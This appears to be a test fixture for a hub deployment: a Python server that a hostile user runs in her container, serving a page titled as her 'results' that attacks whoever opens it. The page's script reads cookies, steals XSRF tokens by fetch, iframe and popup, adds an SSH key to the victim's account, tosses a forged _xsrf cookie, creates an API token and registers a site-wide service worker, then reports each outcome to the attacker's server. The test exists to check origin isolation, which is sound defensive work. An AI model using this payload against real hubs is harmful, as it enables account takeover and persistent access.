"""A hostile user's own web server, run inside her container in place of Jupyter (tests/stack/
test_origin_takeover.py): `python3 -c <this file> PORT PREFIX VICTIM PUBLIC_KEY`.

Whoever opens PREFIX gets a page whose script tries to act as them on the hub: read their XSRF token
(fetch, iframe, popup), add PUBLIC_KEY to VICTIM's SSH keys (with a stolen token, or with a tossed
_xsrf cookie), create an API token, and register a service worker for the whole site. Every attempt
reports its outcome to POST PREFIX/report, kept one JSON object per line in /tmp/hostile-reports.jsonl.
"""

import json
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT, PREFIX, VICTIM, PUBLIC_KEY = int(sys.argv[1]), sys.argv[2].rstrip("/"), sys.argv[3], sys.argv[4]
REPORTS = "/tmp/hostile-reports.jsonl"

SCRIPT = """
const VICTIM = %(victim)s, KEY = %(key)s, PREFIX = %(prefix)s;
// The hub's origin: this page's host without the user's label (the same origin with path routing).
const HUB = location.protocol + "//" + location.host.replace(/^[^.]+\\.(?=.+\\..+)/, "");
const keysUrl = HUB + "/hub/api/devhub/ssh/users/" + VICTIM + "/keys";
async function report(attack, outcome) {
  await fetch(PREFIX + "/report", {method: "POST", body: JSON.stringify({attack, ...outcome})});
}
const xsrfIn = (html) => (html.match(/xsrf_token: "([^"]+)"/) || html.match(/name="_xsrf" value="([^"]+)"/) || [])[1];
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
async function attempt(attack, body) {
  try { await report(attack, await body()); } catch (e) { await report(attack, {error: String(e)}); }
}
(async () => {
  let stolen = null;
  await report("page", {origin: location.origin, hub: HUB, cookies: document.cookie});
  await attempt("steal-xsrf-fetch", async () => {
    const html = await (await fetch(HUB + "/hub/ssh-keys", {credentials: "include"})).text();
    stolen = stolen || xsrfIn(html);
    return {stolen: Boolean(xsrfIn(html))};
  });
  await attempt("steal-xsrf-iframe", async () => {
    const frame = document.createElement("iframe");
    frame.src = HUB + "/hub/ssh-keys";
    document.body.appendChild(frame);
    await Promise.race([new Promise((resolve) => frame.onload = resolve), wait(5000)]);
    const html = frame.contentDocument.documentElement.innerHTML;
    stolen = stolen || xsrfIn(html);
    return {stolen: Boolean(xsrfIn(html))};
  });
  await attempt("steal-xsrf-popup", async () => {
    const popup = window.open(HUB + "/hub/ssh-keys", "hub");
    if (!popup) return {error: "popup blocked"};
    for (let i = 0; i < 50; i++) {
      await wait(100);
      const html = popup.document.documentElement.innerHTML;  // throws across origins
      if (xsrfIn(html)) { stolen = stolen || xsrfIn(html); return {stolen: true}; }
    }
    return {stolen: false};
  });
  await attempt("add-key-stolen-xsrf", async () => {
    if (!stolen) return {error: "no XSRF token to use"};
    const r = await fetch(keysUrl, {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": stolen},
      body: JSON.stringify({name: "pwned", key: KEY})});
    return {status: r.status};
  });
  await attempt("add-key-tossed-cookie", async () => {
    // A cookie set for the parent domain reaches the hub; the form-style request needs no preflight.
    const forged = "2|forged|forged|1";
    document.cookie = "_xsrf=" + forged + "; domain=" + HUB.split("//")[1].split(":")[0] + "; path=/hub/";
    const r = await fetch(keysUrl + "?_xsrf=" + encodeURIComponent(forged), {method: "POST", mode: "no-cors",
      credentials: "include", headers: {"Content-Type": "text/plain"},
      body: JSON.stringify({name: "tossed", key: KEY})});
    return {sent: r.type};
  });
  await attempt("create-token", async () => {
    const r = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json"}, body: JSON.stringify({note: "pwned"})});
    const body = await r.json().catch(() => ({}));
    return {status: r.status, token: Boolean(body.token)};
  });
  await attempt("service-worker", async () => {
    const registration = await navigator.serviceWorker.register(PREFIX + "/sw.js", {scope: "/"});
    return {scope: registration.scope};
  });
  await report("done", {});
})();
"""


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def send(self, body, content_type, extra=None):
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (extra or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path.startswith(PREFIX + "/sw.js"):
            # What a hostile server would send to claim every path of the origin.
            return self.send(b"self.addEventListener('fetch', () => {});", "text/javascript",
                             {"Service-Worker-Allowed": "/"})
        script = SCRIPT % {"victim": json.dumps(VICTIM), "key": json.dumps(PUBLIC_KEY), "prefix": json.dumps(PREFIX)}
        self.send(f"<!doctype html><title>alice's results</title><body><script>{script}</script>".encode(),
                  "text/html; charset=utf-8")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        with open(REPORTS, "ab") as reports:
            reports.write(body.replace(b"\n", b" ") + b"\n")
        self.send(b"{}", "application/json")


ThreadingHTTPServer(("0.0.0.0", PORT), Handler).serve_forever()
